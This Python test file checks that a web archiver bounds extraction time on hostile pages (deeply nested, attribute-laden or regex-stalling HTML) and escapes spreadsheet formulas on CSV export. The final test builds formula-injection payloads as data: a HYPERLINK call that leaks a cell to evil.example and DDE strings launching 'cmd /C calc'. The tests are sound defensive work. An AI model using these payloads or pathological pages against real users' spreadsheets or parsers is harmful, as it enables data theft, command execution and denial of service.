"""Hostile pages and what is made of them (issue 13): the extraction of any page is
bounded, and an export never hands a spreadsheet a formula.

The hostile inputs are built here, not kept as files.
"""

from __future__ import annotations

import csv
import json
import time
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

import archiver
from archiver.article import Article, ExtractorInfo
from archiver.capture import load
from archiver.extraction.budget import (
    MAX_ATTRIBUTES,
    MAX_DEPTH,
    MAX_ELEMENTS,
    MAX_PAIRS,
    bounded_html,
)
from archiver.warc.writer import WarcWriter, target_uri

#: The issue's budget for any one page.
SECONDS = 10.0

PARAGRAPHS = [
    f"Paragraph {n} of the article says what the minister announced on Tuesday, in words "
    "enough to be read as prose."
    for n in range(1, 9)
]
ARTICLE = "<h1>A headline</h1>" + "".join(f"<p>{p}</p>" for p in PARAGRAPHS)


def page(body: str) -> str:
    return f"<html><head><title>A headline</title></head><body>{body}</body></html>"


def nested(levels: int) -> str:
    return page("<div>" * levels + ARTICLE + "</div>" * levels)


def attributes(count: int) -> str:
    names = " ".join(f'a{n}="{n}"' for n in range(count))
    return page(f"<div {names}>{ARTICLE}</div>")


def formatting(open_tags: int, paragraphs: int) -> str:
    # Parsers open every unclosed <b> again in each later block: 68 KB of this shape
    # made 1.6 million elements.
    tags = "".join(f'<b class="c{n}">' for n in range(open_tags))
    return page(f"<p>{tags}" + "<p>x" * paragraphs + ARTICLE)


def lexbor_depth(html: str) -> int:
    """The depth of the tree an HTML5 parser builds of ``html``."""
    root = LexborHTMLParser(html).root
    deepest, stack = 0, [(root, 1)] if root is not None else []
    while stack:
        node, depth = stack.pop()
        deepest = max(deepest, depth)
        child = node.child
        while child is not None:
            stack.append((child, depth + 1))
            child = child.next
    return deepest


@pytest.mark.parametrize(
    "html",
    [
        pytest.param(nested(100_000), id="100,000 nested divs"),
        pytest.param(attributes(200_000), id="200,000 attributes on one element"),
        pytest.param(formatting(4_000, 4_000), id="4,000 unclosed b before 4,000 blocks"),
        # Each "・" is a word and no word character: a regular expression that could read
        # it either way tried every split of a line of them, for minutes.
        pytest.param(page(f"<p>{'・' * 60}</p>{ARTICLE}"), id="a line of 60 middle dots"),
        pytest.param(nested(1_000_000), id="a million nested divs", marks=pytest.mark.slow),
    ],
)
def test_case_7_deep_or_attribute_laden_pages_extract_in_bounded_time(html: str) -> None:
    # These took 22 s to over 600 s: lexbor walks the open elements at each tag, and
    # lexbor and libxml2 compare each attribute with all the earlier ones of its element
    # (the middle dots: see archiver.extraction.prose._word_run).
    started = time.perf_counter()
    article = archiver.extract(html.encode())
    assert time.perf_counter() - started < SECONDS
    # Trimmed where it goes over, not refused: the article is all there.
    assert article.title == "A headline"
    assert article.text.split("\n\n")[-len(PARAGRAPHS) :] == PARAGRAPHS


def test_case_7_pages_over_budget_are_trimmed_where_they_go_over() -> None:
    bounded, overrun = bounded_html(nested(5_000))
    assert overrun is not None and overrun.depth > 5_000
    assert f"nested {overrun.depth:,} deep" in overrun.describe()
    # What parsers build of it stays under the limit (with <html> and <body> around it).
    assert lexbor_depth(bounded) <= MAX_DEPTH + 3
    assert bounded.count("<p>") == len(PARAGRAPHS)

    bounded, overrun = bounded_html(attributes(5_000))
    assert overrun is not None and overrun.attributes == 5_000
    div = LexborHTMLParser(bounded).css_first("div")
    assert div is not None and len(div.attributes) == MAX_ATTRIBUTES
    assert div.attributes["a0"] == "0"

    # A page within the budget is passed on as it came: the same string.
    html = page("<div>" * 150 + ARTICLE + "</div>" * 150)
    assert bounded_html(html) == (html, None)


def many(unit: str, count: int) -> str:
    return page(unit * count + ARTICLE)


def bare(unit: str, count: int) -> str:
    """A page of ``count`` ``unit`` under its headline, and no article: the extractor
    tries every pass it has on it."""
    return page(f"<article><h1>A headline</h1>{unit * count}</article>")


@pytest.mark.parametrize(
    "html",
    [
        # trafilatura's own pass took 4 s of this 400 KB: libxml2's XPath and trafilatura
        # do work that grows with the paragraphs squared
        pytest.param(bare("<p>x</p>", 50_000), id="50,000 paragraphs"),
        # Within the depth limit, thousands of elements nested 200 deep: work that grows
        # with the elements times their depth
        pytest.param(bare("<ul><li>", 12_500), id="12,500 nested list items"),
        pytest.param(bare("<table><tr><td>", 6_700), id="6,700 nested tables"),
        pytest.param(bare("<div>x", 33_000), id="33,000 unclosed divs"),
        pytest.param(bare("<b><p>x", 57_000), id="57,000 unclosed b and p"),
        # Raw text elements count too (past the budget they go whole, text and all)
        pytest.param(bare("<title>a</title>", 60_000), id="60,000 titles"),
        # In SVG a <style> is no raw text: it is not looked for an end as raw text is
        # (each look, to the end of the page, made the scan quadratic)
        pytest.param(page("<svg>" + "<g/>" * 30_000 + "<style>x" * 60_000), id="SVG styles"),
        # A paragraph of punctuation alone: the teaser test tried it at each character
        pytest.param(bare("<p>" + ".,;!?-" * 500_000 + "</p>", 1), id="3 MB of punctuation"),
    ],
)
def test_pages_of_too_many_elements_extract_in_bounded_time(html: str) -> None:
    # These took 9 to 13 s of ours (three passes of trafilatura on the page), and two
    # to six times as much at 2 MB; within the budget, 3 s at most at 2 MB.
    started = time.perf_counter()
    article = archiver.extract(html.encode())
    assert time.perf_counter() - started < SECONDS
    assert article.title == "A headline"


def test_a_dump_of_date_lines_extracts_in_bounded_time() -> None:
    # Each line of another shape (a word of its own), none read as a date: dateparser
    # was asked of each, half a millisecond a line (11 s for 2 MB).
    words = ["".join(chr(97 + int(digit)) for digit in str(n)) for n in range(30_000)]
    lines = [f"Published January 2, 2020 10:00 the minister said {word}" for word in words]
    started = time.perf_counter()
    archiver.extract("A headline\n" + "\n".join(lines), kind="text")
    assert time.perf_counter() - started < SECONDS


def test_a_dump_of_headline_lines_extracts_in_bounded_time() -> None:
    # Each a headline by its shape, all sharing their longest word, above the article:
    # the lines holding a headline's longest word were scanned for each of them (165 s).
    lines = [f"Headline number {n} Wonderful" for n in range(30_000)]
    started = time.perf_counter()
    archiver.extract("\n".join([*lines, *PARAGRAPHS]), kind="text")
    assert time.perf_counter() - started < SECONDS


@pytest.mark.parametrize(
    "html",
    [
        pytest.param(many("<p>x</p>", 50_000), id="50,000 paragraphs"),
        # HTML5 parsers ignore a cell outside a table; libxml2 makes an element of it
        pytest.param(many("<td>x", 100_000), id="100,000 cells outside a table"),
        pytest.param(many("<b><p>x", 57_000), id="57,000 unclosed b and p"),
    ],
)
def test_the_text_after_the_element_budget_is_kept(html: str) -> None:
    # The tags past the budget are dropped, not the text: the paragraphs run together.
    article = archiver.extract(html.encode())
    for paragraph in PARAGRAPHS:
        assert paragraph in article.text


def test_tags_past_the_element_budget_are_dropped_not_their_text() -> None:
    bounded, overrun = bounded_html(many("<p>x</p>", 2 * MAX_ELEMENTS))
    assert overrun is not None and overrun.elements > MAX_ELEMENTS
    assert f"{overrun.elements:,} elements (limit {MAX_ELEMENTS:,})" in overrun.describe()
    assert len(LexborHTMLParser(bounded).css("p")) <= MAX_ELEMENTS
    assert bounded.count("x") == 2 * MAX_ELEMENTS  # each "x" kept, a space apart
    assert "xx" not in bounded

    bounded, overrun = bounded_html(many("<ul><li>", 10_000))
    assert overrun is not None and overrun.pairs >= MAX_PAIRS
    assert "levels deep in all" in overrun.describe()
    # A run of tags taken out leaves one space, not a space for each.
    assert "  " not in bounded


def test_past_the_element_budget_markup_and_text_stay_what_parsers_make_of_them() -> None:
    full = "<p>x</p>" * MAX_ELEMENTS  # the budget, used up
    # A tag of phrasing taken out leaves nothing: it may stand inside a word.
    bounded, _ = bounded_html(page(full + "H<sub>2</sub>O is <span>water</span>."))
    assert LexborHTMLParser(bounded).text().endswith("H2O is water.")
    # Text after <plaintext> is text to parsers: it is not read as tags.
    bounded, _ = bounded_html(full + "<plaintext>a<div>b</div>c")
    assert bounded.endswith("<plaintext>a<div>b</div>c")
    # In SVG a <title/> is an empty element, not raw text up to a </title> further on.
    svg = (
        "<svg>"
        + "<g/>" * MAX_ELEMENTS
        + "<title/></svg><p>Kept text</p><svg><title>x</title></svg>"
    )
    bounded, _ = bounded_html(svg)
    assert "Kept text" in LexborHTMLParser(bounded).text()


def test_case_9_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    hostile = {
        "title": '=HYPERLINK("http://evil.example/?q="&A1, "click")',
        "description": "@SUM(1+1)*cmd|' /C calc'!A0",
        "text": "+cmd|' /C calc'!A0\n\nThe rest of the article.",
        "section": "-2+3+cmd|' /C calc'!A0",
        "source": "\t=1+1",
        "site": "\r=1+1",
    }
    article = Article(
        extractor=ExtractorInfo("generic", "1.0"),
        input_kind="html",
        url="https://example.com/a",
        authors=("=1+1",),
        **hostile,
    )
    document = load(page(ARTICLE), url="https://example.com/a")
    warc = tmp_path / "a.warc.gz"
    with WarcWriter(warc) as writer:
        writer.write_article(document, article, target_uri=target_uri(document, article))

    archiver.export([warc], tmp_path / "a.csv", format="csv")
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    for column, value in hostile.items():
        # Text, as OWASP recommends: a leading single quote, the value after it whole.
        assert row[column] == "'" + value
    assert row["authors"] == '["=1+1"]'  # a JSON array starts with "["
    assert row["title"] != article.title and row["word_count"] == str(article.word_count)

    # JSON lines keep the data as it is.
    archiver.export([warc], tmp_path / "a.jsonl")
    data = json.loads((tmp_path / "a.jsonl").read_text(encoding="utf-8"))
    assert {column: data[column] for column in hostile} == hostile
